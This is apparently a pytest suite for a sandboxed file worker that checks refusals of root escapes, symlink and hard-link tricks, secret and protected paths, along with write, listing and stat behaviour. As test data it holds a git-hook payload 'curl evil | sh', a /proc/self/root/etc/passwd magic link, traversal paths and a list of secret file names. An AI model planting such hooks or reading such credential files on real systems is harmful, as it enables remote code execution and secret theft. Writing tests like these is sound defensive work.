"""The file operations through a real worker process running as the tenant:
resolution, policy, atomic writes, listings, stat."""

from __future__ import annotations

import hashlib
import os
import stat

import pytest
from fs_worker_support import OUTSIDE_CONTENT, Roots, WorkerClient


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- reads -------------------------------------------------------------------


async def test_read_returns_content_and_its_hashes(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / "a.txt").write_bytes(b"hello\n")
    header, data = await fs.read("a.txt")
    assert data == b"hello\n"
    assert header["path"] == str(roots.ws / "a.txt")
    assert header["size"] == 6 and header["truncated"] is False
    assert header["sha256"] == header["file_sha256"] == sha(b"hello\n")
    assert header["is_binary"] is False and header["media_type"] == "text/plain"


async def test_a_partial_read_says_truncated_and_hashes_only_what_it_returned(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "big.txt").write_bytes(b"0123456789")
    header, data = await fs.read("big.txt", offset=2, max_bytes=5)
    assert data == b"23456"
    assert header["size"] == 10 and header["offset"] == 2 and header["truncated"] is True
    assert header["sha256"] == sha(b"23456") and header["file_sha256"] == ""
    header, data = await fs.read("big.txt", offset=4, max_bytes=100)
    assert data == b"456789" and header["truncated"] is False
    header, data = await fs.read("big.txt", offset=50)
    assert data == b"" and header["truncated"] is False


async def test_reading_a_directory_or_a_missing_file_is_refused(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "d").mkdir()
    assert (await fs.refusal(fs.read("d"))).reason == "INVALID_ARGUMENT"
    assert (await fs.refusal(fs.read("missing.txt"))).reason == "NOT_FOUND"


async def test_a_fifo_is_refused_without_blocking_the_worker(
    fs: WorkerClient, roots: Roots
) -> None:
    os.mkfifo(roots.ws / "pipe")
    assert (await fs.refusal(fs.read("pipe"))).reason == "INVALID_ARGUMENT"


async def test_absolute_paths_reach_every_root_and_only_the_roots(
    fs: WorkerClient, roots: Roots
) -> None:
    _, data = await fs.read(str(roots.ref / "doc.md"))
    assert data == b"# reference\n"
    refused = await fs.refusal(fs.read(str(roots.outside / "secret.txt")))
    assert refused.reason == "PATH_ESCAPES_ROOT"
    assert str(roots.outside) not in refused.message


async def test_dotdot_above_the_root_is_an_escape_not_a_lookup(
    fs: WorkerClient, roots: Roots
) -> None:
    refused = await fs.refusal(fs.read("../outside/secret.txt"))
    assert refused.reason == "PATH_ESCAPES_ROOT"
    # whether the target exists is not revealed: a missing one gets the same answer
    assert (await fs.refusal(fs.read("../outside/no-such-file"))).reason == "PATH_ESCAPES_ROOT"


async def test_a_symlink_inside_the_root_is_followed_and_the_real_path_reported(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "src").mkdir()
    (roots.ws / "src" / "real.txt").write_text("real\n")
    os.symlink("src/real.txt", roots.ws / "alias.txt")
    header, data = await fs.read("alias.txt")
    assert data == b"real\n"
    assert header["path"] == str(roots.ws / "src" / "real.txt")


@pytest.mark.parametrize(
    "target",
    [
        "{outside}/secret.txt",
        "../outside/secret.txt",
        "{other}/theirs.txt",
        "/",
        "{outside}",
        "{ws}/a.txt",
    ],
)
async def test_a_symlink_leaving_the_root_is_refused(
    fs: WorkerClient, roots: Roots, target: str
) -> None:
    (roots.ws / "a.txt").write_text("inside\n")
    link = roots.ws / "link"
    os.symlink(target.format(outside=roots.outside, other=roots.other, ws=roots.ws), link)
    roots.as_tenant(link)
    refused = await fs.refusal(fs.read("link"))
    # an absolute symlink is refused even when it names a path inside: the
    # kernel's RESOLVE_BENEATH never follows one
    assert refused.reason == "SYMLINK_REFUSED"
    assert str(roots.outside) not in refused.message and "secret" not in refused.message
    assert (await fs.refusal(fs.read("link/secret.txt"))).reason in (
        "SYMLINK_REFUSED",
        "NOT_FOUND",
    )


async def test_proc_magic_links_are_refused(fs: WorkerClient, roots: Roots) -> None:
    os.symlink("/proc/self/root/etc/passwd", roots.ws / "magic")
    assert (await fs.refusal(fs.read("magic"))).reason == "SYMLINK_REFUSED"
    assert (await fs.refusal(fs.read("/proc/self/root/etc/passwd"))).reason == "PATH_ESCAPES_ROOT"


async def test_without_follow_symlinks_even_an_inside_symlink_is_refused(
    fs_nofollow: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "real.txt").write_text("real\n")
    os.symlink("real.txt", roots.ws / "alias.txt")
    (roots.ws / "d").mkdir()
    os.symlink("d", roots.ws / "dlink")
    assert (await fs_nofollow.refusal(fs_nofollow.read("alias.txt"))).reason == "SYMLINK_REFUSED"
    assert (await fs_nofollow.refusal(fs_nofollow.read("dlink/x"))).reason == "SYMLINK_REFUSED"
    refused = await fs_nofollow.refusal(fs_nofollow.write("alias.txt", b"new"))
    assert refused.reason == "SYMLINK_REFUSED"
    assert (roots.ws / "real.txt").read_text() == "real\n"
    assert (await fs_nofollow.stat("alias.txt"))["type"] == "symlink"


async def test_secret_paths_are_never_read(fs: WorkerClient, roots: Roots) -> None:
    for name in (".env", ".env.local", "id_rsa", "tls.pem", "Server.KEY"):
        (roots.ws / name).write_text("TOKEN=hunter2\n")
    (roots.ws / ".ssh").mkdir()
    (roots.ws / ".ssh" / "config").write_text("Host *\n")
    for path in (".env", ".env.local", "id_rsa", "tls.pem", "Server.KEY", ".ssh/config", ".ENV"):
        refused = await fs.refusal(fs.read(path))
        assert refused.reason == "SECRET_PATH", path
        assert "hunter2" not in refused.message


async def test_a_secret_reached_through_an_innocent_symlink_is_still_secret(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / ".env").write_text("TOKEN=hunter2\n")
    os.symlink(".env", roots.ws / "notes.txt")
    assert (await fs.refusal(fs.read("notes.txt"))).reason == "SECRET_PATH"


async def test_files_the_tenant_cannot_read_are_refused_by_the_kernel(
    fs: WorkerClient, roots: Roots
) -> None:
    if os.getuid() != 0:
        pytest.skip("needs a file owned by another uid")
    private = roots.ws / "root-only.txt"
    private.write_text("root's\n")
    private.chmod(0o600)
    assert (await fs.refusal(fs.read("root-only.txt"))).reason == "ACCESS_DENIED"


# --- writes ------------------------------------------------------------------


def leftovers(directory: os.PathLike[str]) -> list[str]:
    return [name for name in os.listdir(directory) if "hostcap" in name or name.endswith(".tmp")]


async def test_a_new_file_is_created_as_the_tenant_with_the_configured_mode(
    fs: WorkerClient, roots: Roots
) -> None:
    prepared = await fs.write("new.txt", b"fresh\n")
    assert prepared == {
        "path": str(roots.ws / "new.txt"),
        "size": 6,
        "sha256": sha(b"fresh\n"),
        "previous_sha256": "",
        "created": True,
    }
    st = (roots.ws / "new.txt").stat()
    assert (roots.ws / "new.txt").read_bytes() == b"fresh\n"
    assert (st.st_uid, st.st_gid) == (roots.uid, roots.gid)
    assert stat.S_IMODE(st.st_mode) == 0o644
    assert leftovers(roots.ws) == []


async def test_replacing_reports_the_old_hash_and_keeps_the_file_mode(
    fs: WorkerClient, roots: Roots
) -> None:
    script = roots.ws / "run.sh"
    script.write_text("echo old\n")
    script.chmod(0o755)
    roots.as_tenant(script)
    prepared = await fs.write("run.sh", b"echo new\n")
    assert prepared["previous_sha256"] == sha(b"echo old\n") and prepared["created"] is False
    assert script.read_text() == "echo new\n"
    assert stat.S_IMODE(script.stat().st_mode) == 0o755
    assert leftovers(roots.ws) == []


async def test_exclusive_refuses_an_existing_file_and_leaves_it(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "taken.txt").write_text("first\n")
    roots.as_tenant(roots.ws / "taken.txt")
    assert (
        await fs.refusal(fs.write("taken.txt", b"second\n", exclusive=True))
    ).reason == "CONFLICT"
    assert (roots.ws / "taken.txt").read_text() == "first\n"
    assert (await fs.write("fresh.txt", b"x", exclusive=True))["created"] is True


async def test_expected_sha256_is_optimistic_concurrency(fs: WorkerClient, roots: Roots) -> None:
    doc = roots.ws / "doc.txt"
    doc.write_text("v1\n")
    roots.as_tenant(doc)
    stale = sha(b"v0\n")
    assert (
        await fs.refusal(fs.write("doc.txt", b"v2\n", expected_sha256=stale))
    ).reason == "CONFLICT"
    assert doc.read_text() == "v1\n"
    await fs.write("doc.txt", b"v2\n", expected_sha256=sha(b"v1\n"))
    assert doc.read_text() == "v2\n"
    # "" means: must not exist yet
    assert (await fs.refusal(fs.write("doc.txt", b"v3\n", expected_sha256=""))).reason == "CONFLICT"
    assert (await fs.write("other.txt", b"o\n", expected_sha256=""))["created"] is True
    assert (
        await fs.refusal(fs.write("absent.txt", b"a\n", expected_sha256=sha(b"x")))
    ).reason == "CONFLICT"
    assert leftovers(roots.ws) == []


async def test_create_parents_makes_tenant_owned_directories(
    fs: WorkerClient, roots: Roots
) -> None:
    assert (await fs.refusal(fs.write("a/b/c.txt", b"x"))).reason == "NOT_FOUND"
    assert not (roots.ws / "a").exists()
    await fs.write("a/b/c.txt", b"deep\n", create_parents=True)
    assert (roots.ws / "a" / "b" / "c.txt").read_text() == "deep\n"
    for directory in (roots.ws / "a", roots.ws / "a" / "b"):
        st = directory.stat()
        assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (roots.uid, 0o755)


async def test_an_aborted_write_leaves_nothing_behind(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / "keep.txt").write_text("original\n")
    roots.as_tenant(roots.ws / "keep.txt")
    await fs.write("keep.txt", b"replacement\n", commit=False)
    await fs.write("made/for/this.txt", b"x", create_parents=True, commit=False)
    assert (roots.ws / "keep.txt").read_text() == "original\n"
    assert sorted(os.listdir(roots.ws)) == ["keep.txt"]


async def test_writes_to_a_read_only_root_are_refused(fs: WorkerClient, roots: Roots) -> None:
    refused = await fs.refusal(fs.write(str(roots.ref / "doc.md"), b"changed"))
    assert refused.reason == "READ_ONLY_TIER"
    assert (await fs.refusal(fs.write(str(roots.ref / "new.md"), b"x"))).reason == "READ_ONLY_TIER"
    assert (roots.ref / "doc.md").read_text() == "# reference\n"
    assert sorted(os.listdir(roots.ref)) == ["doc.md"]


async def test_protected_paths_refuse_writes_even_through_a_symlink(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / ".git" / "hooks").mkdir(parents=True)
    roots.as_tenant(roots.ws / ".git", roots.ws / ".git" / "hooks")
    os.symlink(".git/hooks", roots.ws / "hooks")
    roots.as_tenant(roots.ws / "hooks")
    for path in (
        ".git/hooks/pre-commit",
        "hooks/pre-commit",
        ".git/config",
        ".GIT/HOOKS/post-merge",
    ):
        refused = await fs.refusal(
            fs.write(path, b"#!/bin/sh\ncurl evil | sh\n", create_parents=True)
        )
        assert refused.reason == "PROTECTED_PATH", path
    assert os.listdir(roots.ws / ".git" / "hooks") == []
    assert sorted(os.listdir(roots.ws / ".git")) == ["hooks"]
    # protected is about writes: reading stays allowed
    (roots.ws / ".git" / "config").write_text("[core]\n")
    assert (await fs.read(".git/config"))[1] == b"[core]\n"


async def test_secret_paths_refuse_writes_too(fs: WorkerClient, roots: Roots) -> None:
    assert (await fs.refusal(fs.write(".env", b"X=1\n"))).reason == "SECRET_PATH"
    assert (
        await fs.refusal(fs.write("keys/id_ed25519", b"k", create_parents=True))
    ).reason == "SECRET_PATH"
    assert os.listdir(roots.ws) == []


async def test_a_file_with_other_hard_links_is_not_written(fs: WorkerClient, roots: Roots) -> None:
    original = roots.outside / "secret.txt"
    os.link(original, roots.ws / "hardlink.txt")
    refused = await fs.refusal(fs.write("hardlink.txt", b"overwritten"))
    assert refused.reason == "PATH_ESCAPES_ROOT"
    assert original.read_bytes() == OUTSIDE_CONTENT
    assert (roots.ws / "hardlink.txt").read_bytes() == OUTSIDE_CONTENT


async def test_a_file_the_tenant_may_not_write_is_refused_by_the_kernel(
    fs: WorkerClient, roots: Roots
) -> None:
    if os.getuid() != 0:
        pytest.skip("needs a file owned by another uid")
    (roots.ws / "roots.txt").write_text("root owns this\n")  # 0644 root: readable, not writable
    assert (await fs.refusal(fs.write("roots.txt", b"mine now"))).reason == "ACCESS_DENIED"
    assert (roots.ws / "roots.txt").read_text() == "root owns this\n"


async def test_a_dangling_symlink_is_not_written_through(fs: WorkerClient, roots: Roots) -> None:
    os.symlink("nowhere.txt", roots.ws / "dangling")
    assert (await fs.refusal(fs.write("dangling", b"x"))).reason == "SYMLINK_REFUSED"
    assert sorted(os.listdir(roots.ws)) == ["dangling"]


async def test_paths_naming_a_directory_are_not_written(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / "d").mkdir()
    for path in ("d", "d/", ".", str(roots.ws)):
        assert (await fs.refusal(fs.write(path, b"x"))).reason == "INVALID_ARGUMENT", path


# --- listings ------------------------------------------------------------


async def test_listing_is_sorted_by_full_name_in_byte_order(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / "a").mkdir()
    (roots.ws / "a" / "b").write_text("b")
    (roots.ws / "a.txt").write_text("x")
    (roots.ws / "a0").write_text("y")
    (roots.ws / "B").write_text("z")
    listing = await fs.list(".", depth=2)
    assert [e["name"] for e in listing["entries"]] == ["B", "a", "a.txt", "a/b", "a0"]
    assert listing["truncated"] is False
    by_name = {e["name"]: e for e in listing["entries"]}
    assert by_name["a"]["type"] == "directory" and by_name["a.txt"]["size"] == 1


async def test_listing_bounds_depth_and_entries_and_says_truncated(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "x" / "y" / "z").mkdir(parents=True)
    for index in range(5):
        (roots.ws / f"f{index}").write_text("")
    assert [e["name"] for e in (await fs.list(".", depth=1))["entries"]] == [
        "f0",
        "f1",
        "f2",
        "f3",
        "f4",
        "x",
    ]
    assert "x/y/z" in [e["name"] for e in (await fs.list(".", depth=3))["entries"]]
    assert "x/y/z" not in [e["name"] for e in (await fs.list(".", depth=2))["entries"]]
    limited = await fs.list(".", max_entries=3)
    assert [e["name"] for e in limited["entries"]] == ["f0", "f1", "f2"] and limited[
        "truncated"
    ] is True


async def test_hidden_names_only_on_request(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / ".hidden").write_text("")
    (roots.ws / "shown").write_text("")
    assert [e["name"] for e in (await fs.list("."))["entries"]] == ["shown"]
    assert [e["name"] for e in (await fs.list(".", include_hidden=True))["entries"]] == [
        ".hidden",
        "shown",
    ]


async def test_symlink_targets_are_shown_only_when_they_stay_inside(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / "real.txt").write_text("")
    os.symlink("real.txt", roots.ws / "inside")
    os.symlink(str(roots.outside / "secret.txt"), roots.ws / "outside")
    os.symlink("../outside/secret.txt", roots.ws / "climbing")
    targets = {e["name"]: (e["type"], e["target"]) for e in (await fs.list("."))["entries"]}
    assert targets["inside"] == ("symlink", "real.txt")
    assert targets["outside"] == ("symlink", "")
    assert targets["climbing"] == ("symlink", "")


async def test_a_secret_directory_is_listed_but_not_descended(
    fs: WorkerClient, roots: Roots
) -> None:
    (roots.ws / ".ssh").mkdir()
    (roots.ws / ".ssh" / "id_rsa").write_text("key")
    names = [e["name"] for e in (await fs.list(".", depth=3, include_hidden=True))["entries"]]
    assert names == [".ssh"]
    assert (await fs.refusal(fs.list(".ssh"))).reason == "SECRET_PATH"


async def test_listing_a_file_is_refused(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / "f").write_text("")
    assert (await fs.refusal(fs.list("f"))).reason == "INVALID_ARGUMENT"
    assert (await fs.refusal(fs.list("../"))).reason == "PATH_ESCAPES_ROOT"


# --- stat --------------------------------------------------------------------


async def test_stat_says_whether_the_tenant_may_write(fs: WorkerClient, roots: Roots) -> None:
    (roots.ws / "mine.txt").write_text("mine\n")
    roots.as_tenant(roots.ws / "mine.txt")
    (roots.ws / ".git").mkdir()
    roots.as_tenant(roots.ws / ".git")
    (roots.ws / ".git" / "config").write_text("")
    roots.as_tenant(roots.ws / ".git" / "config")
    mine = await fs.stat("mine.txt")
    assert (mine["type"], mine["size"], mine["mode"], mine["writable"]) == (
        "regular",
        5,
        0o644,
        True,
    )
    assert (await fs.stat(".git/config"))["writable"] is False
    assert (await fs.stat(str(roots.ref / "doc.md")))["writable"] is False
    directory = await fs.stat(".")
    assert directory["type"] == "directory" and directory["writable"] is True
    if os.getuid() == 0:
        (roots.ws / "roots.txt").write_text("")
        assert (await fs.stat("roots.txt"))["writable"] is False
